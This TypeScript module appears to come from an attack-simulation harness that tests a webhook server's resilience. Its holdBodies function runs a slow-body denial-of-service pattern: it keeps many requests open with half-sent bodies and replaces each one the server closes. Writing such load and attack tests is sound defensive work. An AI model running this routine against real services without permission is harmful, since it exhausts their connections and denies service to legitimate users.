import { setTimeout as sleep } from 'node:timers/promises';
import type { Target } from '../attack.js';
import { webhook } from './calls.js';
import { rawRequest } from './raw-request.js';

export interface HeldBodies {
  readonly slots: number;
  /** The `content-length`; no body is completed. */
  readonly declaredBytes: number;
  /** The bytes that are sent at once. */
  readonly sent: (slot: number) => Buffer;
  /** The tenant, and headers besides the length. */
  readonly head: (slot: number) => { readonly slug: string; readonly headers?: Readonly<Record<string, string>> };
  /** How long the bodies stay open after all were sent once. */
  readonly milliseconds: number;
}

/** How long a slot waits after its body was refused. */
const RENEW_AFTER_MS = 1_000;

/** The attacker's bandwidth, 1 Gbit/s: with more, the attacker loads the machine more than the engine. */
const BYTES_PER_MS = 125_000;

/**
 * Keeps webhook requests open whose bodies are half sent. Sends another one for each that the engine answers or
 * closes.
 * @returns how many were sent
 */
export async function holdBodies(
  target: Target,
  { slots, declaredBytes, sent, head, milliseconds }: HeldBodies,
): Promise<number> {
  let opened = 0;
  let isOver = false;
  let uplinkIsFreeAt = performance.now();
  const schedule = (slot: number, afterMs: number): void => {
    const now = performance.now();
    const at = Math.max(uplinkIsFreeAt, now + afterMs);
    uplinkIsFreeAt = at + sent(slot).length / BYTES_PER_MS;
    setTimeout(open, at - now, slot).unref();
  };
  const open = (slot: number): void => {
    if (isOver) return;
    opened++;
    const { slug, headers = {} } = head(slot);
    const call = webhook(slug, '', { ...headers, 'content-length': String(declaredBytes) });
    const socket = target.connections.open([Buffer.from(rawRequest(call)), sent(slot)], {
      ended: () => {
        socket.destroy();
        schedule(slot, RENEW_AFTER_MS);
      },
    });
  };
  for (let slot = 0; slot < slots; slot++) schedule(slot, 0);
  await sleep(uplinkIsFreeAt - performance.now() + milliseconds);
  isOver = true;
  return opened;
}
